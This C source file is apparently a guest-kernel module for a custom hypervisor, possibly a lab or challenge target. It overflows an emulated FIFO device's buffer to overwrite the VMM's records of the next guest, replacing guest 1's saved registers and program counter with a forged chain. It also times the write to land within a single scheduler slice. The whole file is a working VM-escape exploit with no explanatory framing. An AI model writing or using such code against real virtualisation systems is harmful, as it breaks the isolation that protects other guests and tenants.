/*
 * Writes past the FIFO's buffer: over the rest of the VMM's notes of this guest, into its notes of the
 * next one, up to the registers with which guest 1 goes on when it is its turn. Runs at EL1 in the
 * guest's kernel.
 */
#include <attack/escape.h>

#include <rw/gicv2.h>

#define FIFO (RW_GUEST_LINEAR_VA + RW_GUEST_IPA_FIFO)
#define PARAMETER 1
/* Counter ticks: away for so many, another guest has run; none comes for so many, there is none. */
#define AWAY_TICKS 256
#define LONGEST_WAIT 131072

extern const uint8_t guest__task_exit[];
static const volatile uint64_t task_exit_of_guest_1 = (uint64_t)guest__task_exit;

/* What the bytes behind the FIFO's buffer become: what they are, as far as it matters, but for guest 1's registers. */
static struct {
  struct vmm_guest own;
  struct vmm_guest next;
} forged;

static void put(uint8_t byte) { mmio_write32(FIFO + RW_FIFO_DATA, byte); }

/* Bytes [from, to) of `forged`, one after the other. */
static void put_forged(size_t from, size_t to) {
  const uint8_t *bytes = (const uint8_t *)&forged;
  for (size_t at = from; at < to; at++) put(bytes[at]);
}

#define OVERFLOW offsetof(struct vmm_guest, fifo.bytes[RW_FIFO_BYTES])
#define REGISTERS (sizeof(struct vmm_guest) + offsetof(struct vmm_guest, frame))

static void forge(void) {
  /* The index goes on counting while it is overwritten: each of its bytes is written as it will be. */
  forged.own.fifo.count = RW_FIFO_BYTES + 1;
  forged.own.fifo.expected = ~0u; /* the open-ended command goes on */
  forged.next.number = 1;
  forged.next.running = true;
  forged.next.ram = RW_GUEST_RAM + RW_GUEST_RAM_SIZE;
  for (unsigned i = 0; i < 31; i++) forged.next.frame.x[i] = chain.first.x[i];
  forged.next.frame.elr = chain.first.pc;
  forged.next.frame.spsr = chain.first.pstate;
}

/* By how much the guest's own time is behind the machine's; less, where a poll came between the two readings. */
static int64_t time_away(void) {
  const uint64_t machine = read_sysreg(CNTPCT_EL0);
  return (int64_t)(machine - read_sysreg(CNTVCT_EL0));
}

/*
 * Until a time slice has just begun: the rest must fit into one, for what guest 1 saves at its end would undo
 * it. The guest's own time stands still while another one runs.
 */
static void wait_for_slice(void) {
  const int64_t first = time_away(), second = time_away(), away = first > second ? first : second;
  const uint64_t start = read_sysreg(CNTPCT_EL0);
  while (time_away() - away < AWAY_TICKS && read_sysreg(CNTPCT_EL0) - start < LONGEST_WAIT) isb();
}

RW_MODULE_ENTRY int module_entry(const struct rw_guest_api *api) {
  /* Guest 1's own registers are lost: its process ends, and its kernel goes on. */
  build_chain(find_victim(api), task_exit_of_guest_1, 0);
  forge();
  put(RW_FIFO_CMD_DRIVE_SPEC);
  for (unsigned i = 1; i < RW_FIFO_BYTES; i++) put(PARAMETER);
  wait_for_slice();
  put_forged(OVERFLOW, REGISTERS + offsetof(struct vmm_frame, unused));
  api->hypercall(RW_HVC_YIELD, 0, 0, 0);
  return 0;
}
